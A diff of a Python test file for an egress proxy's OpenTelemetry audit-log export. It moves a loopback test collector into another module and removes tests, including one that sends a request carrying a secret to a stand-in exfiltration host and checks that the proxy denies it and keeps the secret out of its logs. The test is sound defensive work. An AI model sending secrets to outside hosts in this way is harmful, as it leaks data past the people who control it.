@@ -2,147 +2,24 @@
 
 from __future__ import annotations
 
-import gzip
-import http.server
-import threading
-import time
 from collections.abc import Iterator, Sequence
 from dataclasses import replace
 from pathlib import Path
-from typing import Any
 
 import httpx
 import pytest
-from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest, ExportLogsServiceResponse
-from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord
 from prometheus_client import CollectorRegistry
 
 from cloned_proxy.store.audit import otlp_export
 from cloned_proxy.store.audit.audit_log import AuditLog
 from cloned_proxy.store.audit.otlp_export import OtlpExport
-from cloned_proxy.store.files.errors import StoreError
-from cloned_proxy.store.settings.config import load_config
 from cloned_proxy.telemetry.events import FlowEnd
 from cloned_proxy.telemetry.otlp import Collector, Exported, PartialSuccess, trace_id
-from tests.cli.conftest import workspace
-from tests.cli.program import Workspace, eventually, policy_text
+from tests.cli.program import eventually
+from tests.store.audit.collector import Receiver, attributes, number_of
 from tests.telemetry.test_metrics import EVENT
 
-__all__ = ["workspace"]
-
 ID = "0123456789abcdef01234567"
-
-
-class Receiver:
-    """Takes `/v1/logs` on loopback, or answers `status` while that is not 200, or nothing while it hangs.
-
-    A request of more than `limit` bytes is answered 413, one with an entry of `poison` 400, and `rejects` is how many
-    records of each request it does not keep.
-    """
-
-    def __init__(self) -> None:
-        self.records: list[LogRecord] = []
-        self.resource: dict[str, str] = {}
-        self.status = 200
-        self.limit = 2**30
-        self.poison: set[int] = set()
-        self.rejects = 0
-        self.sizes: list[int] = []
-        self.hang = threading.Event()
-        self.hang.set()
-        self.asked = 0
-        receiver = self
-
-        class Handler(http.server.BaseHTTPRequestHandler):
-            def do_POST(self) -> None:
-                receiver.asked += 1
-                receiver.hang.wait(30)
-                data = gzip.decompress(self.rfile.read(int(self.headers["Content-Length"])))
-                assert (self.path, self.headers["Content-Type"]) == ("/v1/logs", "application/x-protobuf")
-                status, content = receiver.answer(data)
-                self.send_response(status)
-                self.send_header("Content-Length", str(len(content)))
-                self.end_headers()
-                self.wfile.write(content)
-
-            def log_message(self, format: str, *args: object) -> None: ...  # noqa: A002  the base class's word
-
-        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self._server.daemon_threads = True
-        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
-        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
-
-    def answer(self, data: bytes) -> tuple[int, bytes]:
-        self.sizes.append(len(data))
-        request = ExportLogsServiceRequest.FromString(data)
-        said = ExportLogsServiceResponse()
-        if self.rejects:
-            said.partial_success.rejected_log_records = self.rejects
-            said.partial_success.error_message = "no room"
-        if self.status != 200:
-            return self.status, b""
-        if len(data) > self.limit:
-            return 413, b""
-        if self.poison & {number_of(r) for scope in request.resource_logs[0].scope_logs for r in scope.log_records}:
-            return 400, b""
-        self.take(request)
-        return 200, said.SerializeToString()
-
-    def take(self, request: ExportLogsServiceRequest) -> None:
-        (resource,) = request.resource_logs
-        self.resource = {pair.key: pair.value.string_value for pair in resource.resource.attributes}
-        for scope in resource.scope_logs:
-            self.records += scope.log_records
-
-    def close(self) -> None:
-        self.hang.set()
-        self._server.shutdown()
-        self._server.server_close()
-
-
-@pytest.fixture
-def receiver() -> Iterator[Receiver]:
-    found = Receiver()
-    yield found
-    found.close()
-
-
-def attributes(record: LogRecord) -> dict[str, Any]:
-    return {pair.key: getattr(pair.value, str(pair.value.WhichOneof("value"))) for pair in record.attributes}
-
-
-def test_a_denied_call_of_a_real_serve_arrives_with_its_decisions_id(workspace: Workspace, receiver: Receiver) -> None:
-    workspace.write_policy(policy_text())
-    (workspace.path / "config.yaml").write_text(f"telemetry: {{otlp_endpoint: '{receiver.url}'}}\n")
-    serving = workspace.serve()
-    answer = serving.get("http://exfil.example/a?secret=1")
-    eventually(lambda: any(r.event_name == "cloned_proxy.decision" for r in receiver.records), what="the record")
-    (record,) = [r for r in receiver.records if r.event_name == "cloned_proxy.decision"]
-    found = attributes(record)
-    assert found["cloned.id"] in answer.body
-    assert record.trace_id.hex() == f"00000000{found['cloned.id']}"
-    assert (found["server.address"], found["server.port"], found["url.path"]) == ("exfil.example", 80, "/a")
-    assert (found["cloned.verdict"], found["cloned.reason"]) == ("deny", "host_not_allowed")
-    assert (record.severity_text, record.body.string_value) == ("WARN", "decision deny host_not_allowed")
-    assert abs(record.time_unix_nano / 1e9 - time.time()) < 60
-    assert receiver.resource["service.name"] == "cloned-proxy"
-    assert "secret" not in str(receiver.records)
-    assert "cloned_proxy_otlp_exported_total" in serving.page("/metrics").body
-
-
-def test_a_collector_that_hangs_costs_traffic_nothing(workspace: Workspace, receiver: Receiver) -> None:
-    workspace.write_policy(policy_text())
-    (workspace.path / "config.yaml").write_text(f"telemetry: {{otlp_endpoint: '{receiver.url}'}}\n")
-    serving = workspace.serve()
-    receiver.hang.clear()
-    serving.get("http://first.example/")
-    eventually(lambda: receiver.asked, what="an export that hangs")
-    for number in range(20):
-        assert serving.get(f"http://host{number}.example/").status == 403
-    assert serving.page("/readyz").status == 200
-    receiver.hang.set()
-    hosts = {f"host{number}.example" for number in range(20)}
-    eventually(lambda: hosts <= {attributes(r).get("server.address") for r in receiver.records}, what="all of them")
 
 
 @pytest.fixture
@@ -161,10 +38,6 @@ def export(tmp_path: Path, receiver: Receiver) -> tuple[OtlpExport, CollectorReg
 def append(log: AuditLog, *numbers: int) -> None:
     for number in numbers:
         log.append(replace(EVENT, id=f"{number:024x}"))
-
-
-def number_of(record: LogRecord) -> int:
-    return int(str(attributes(record).get("cloned.id", "-1")), 16)
 
 
 def ids(receiver: Receiver) -> list[int]:
@@ -361,30 +234,6 @@ def test_nothing_unexpected_ends_the_export(
     eventually(lambda: ids(receiver) == [1], what="the entry")
     exporter.close()
     assert counted(registry) == (1, 0)
-
-
-@pytest.mark.parametrize(
-    "endpoint",
-    ["ftp://127.0.0.1", "http://user:secret@collector", "http://c/v1/logs", "collector",
-     "http://collector:4318x", "http://[::1", "http://xn--", "http://collector:99999", "http://collector:0", "http://:4318"],
-)  # fmt: skip
-def test_an_endpoint_that_is_no_base_url_is_refused(tmp_path: Path, endpoint: str) -> None:
-    config = tmp_path / "config.yaml"
-    config.write_text(f"telemetry: {{otlp_endpoint: '{endpoint}'}}\n")
-    with pytest.raises(StoreError) as refused:
-        load_config(config)
-    assert "config.yaml:1: telemetry.otlp_endpoint: this is not the base URL of a collector" in str(refused.value)
-    assert "write one such as http://127.0.0.1:4318" in str(refused.value)
-    assert "secret" not in str(refused.value)
-
-
-def test_a_refused_endpoint_ends_serve_at_its_start(workspace: Workspace) -> None:
-    workspace.write_policy(policy_text())
-    (workspace.path / "config.yaml").write_text("telemetry: {otlp_endpoint: 'http://user:secret@collector'}\n")
-    done = workspace.run("serve", "--listen", "127.0.0.1:0", "--metrics", "off", "--control", "off")
-    assert done.returncode == 2
-    assert "config.yaml:1: telemetry.otlp_endpoint: this is not the base URL of a collector" in done.stderr
-    assert "secret" not in done.stderr
 
 
 def test_anything_but_hex_has_no_trace() -> None:
